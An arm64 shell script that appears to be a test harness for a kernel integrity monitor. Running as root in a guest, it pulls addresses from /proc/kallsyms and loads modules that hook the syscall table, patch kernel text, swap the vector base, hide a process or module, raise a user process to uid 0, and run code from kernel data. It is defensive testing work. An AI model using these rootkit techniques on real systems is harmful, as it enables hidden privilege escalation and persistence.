#!/bin/sh
# Runs one attack of the suite inside the guest (as root) and checks its effect from user
# space. Prints "attack: <name>: ..." lines; exits 0 when the effect is visible, 1 when not,
# 2 on a usage error. Addresses come from /proc/kallsyms (text symbols only: KALLSYMS_ALL is
# off), the rest is found by the modules themselves.
#
#   attack.sh hook_syscall|text_patch|vbar_swap|hide_task|hide_module|cred_overwrite|exec_data
#   attack.sh --list

D=/lib/spumone
ATTACKS="hook_syscall text_patch vbar_swap hide_task hide_module cred_overwrite exec_data"

say() { echo "attack: $name: $*"; }
fail() { say "FAILED: $*"; exit 1; }

# The address of a kernel text symbol, as 0x...; says so on stderr when it is missing (the
# insmod that wanted it then fails).
sym() {
	a=$(awk -v s="$1" '$3 == s { print "0x" $1; exit }' /proc/kallsyms)
	if [ -z "$a" ] || [ "$a" = 0x0000000000000000 ]; then
		echo "attack: $name: no $1 in /proc/kallsyms" >&2
		return 1
	fi
	echo "$a"
}

name=$1
case "$name" in
--list)
	echo "$ATTACKS"
	exit 0
	;;
hook_syscall)
	# Swallows kill(pid, 64). The module finds the table by content from _etext (where
	# rodata starts) and writes it through the kernel's text-poke fixmap slot
	# (HOOK_WRITE=vmap: through a vmap alias instead).
	via=${HOOK_WRITE:-fixmap}
	how="set_fixmap=$(sym __set_fixmap)"
	[ "$via" = vmap ] && how=
	insmod $D/hook_syscall.ko kill_fn=$(sym __arm64_sys_kill) \
		getpid_fn=$(sym __arm64_sys_getpid) scan=$(sym _etext) $how || fail "insmod"
	sleep 600 &
	victim=$!
	kill -64 $victim
	sleep 1
	n=$(cat /sys/module/hook_syscall/parameters/intercepted)
	kill -0 $victim 2>/dev/null || fail "signal 64 was delivered"
	kill $victim
	[ "$n" = 1 ] || fail "intercepted = $n"
	say "kill -64 $victim swallowed by the hooked table (intercepted=$n, $via write)"
	;;
text_patch)
	# getppid() now returns 4242 for everyone.
	before=$(sh -c 'echo $PPID')
	insmod $D/text_patch.ko target=$(sym __arm64_sys_getppid) \
		patcher=$(sym aarch64_insn_patch_text_nosync) retval=4242 || fail "insmod"
	after=$(sh -c 'echo $PPID')
	[ "$after" = 4242 ] || fail "getppid gives $after"
	say "getppid() patched: $before -> $after"
	;;
vbar_swap)
	insmod $D/vbar_swap.ko hold_ms=${VBAR_HOLD_MS:-2000} || fail "insmod"
	line=$(dmesg | grep 'vbar_swap: cpu' | tail -n 1)
	[ -n "$line" ] || fail "no vbar_swap line in dmesg"
	say "${line#*vbar_swap: }"
	;;
hide_task)
	sleep 600 &
	victim=$!
	insmod $D/hide_task.ko pid=$victim || fail "insmod"
	ps -o pid | grep -qw "$victim" && fail "pid $victim still in ps"
	[ -e /proc/$victim ] && fail "/proc/$victim still there"
	kill -0 $victim 2>/dev/null && fail "kill still finds pid $victim"
	say "pid $victim hidden: not in ps, no /proc/$victim, kill says no such process"
	;;
hide_module)
	insmod $D/hide_module.ko || fail "insmod"
	grep -q '^hide_module ' /proc/modules && fail "still in /proc/modules"
	[ -d /sys/module/hide_module ] || fail "no /sys/module/hide_module"
	say "gone from /proc/modules, /sys/module/hide_module still there"
	;;
cred_overwrite)
	# An unprivileged shell waits for its creds to change, reports its ids, and then keeps
	# its root shell a while, as an escalation would (a task that gains root and exits
	# within one DSM period can slip between two periodic checks). `creds` must see it
	# unprivileged first and root after; under the DSM's CPU-share cap on a loaded host a
	# 200 ms period can stretch to seconds, so each phase lasts several.
	rm -f /tmp/cred_go
	$D/runas 1000 1000 \
		sh -c 'echo "before: $(id -u) $(id -g)"; while [ ! -e /tmp/cred_go ]; do sleep 0.1; done; echo "after: $(id -u) $(id -g)"; sleep 5' >/tmp/cred_out &
	victim=$!
	sleep 3
	insmod $D/cred_overwrite.ko pid=$victim || fail "insmod"
	touch /tmp/cred_go
	wait $victim
	cat /tmp/cred_out
	grep -q '^before: 1000 1000$' /tmp/cred_out || fail "the victim was not uid 1000"
	grep -q '^after: 0 0$' /tmp/cred_out || fail "uid not 0 after the overwrite"
	say "pid $victim went from uid 1000 to uid 0 without exec"
	;;
exec_data)
	# Code written into the kernel's bss and made executable at stage 1, then called.
	insmod $D/exec_data.ko || fail "insmod"
	ran=$(dmesg | grep 'exec_data: ran code from kernel data' | tail -n 1)
	echo "$ran" | grep -q 'returned 0x5a' || fail "the code did not run"
	say "ran code from kernel bss (returned 0x5a)"
	;;
*)
	echo "usage: attack.sh <name>|--list; names: $ATTACKS" >&2
	exit 2
	;;
esac
exit 0
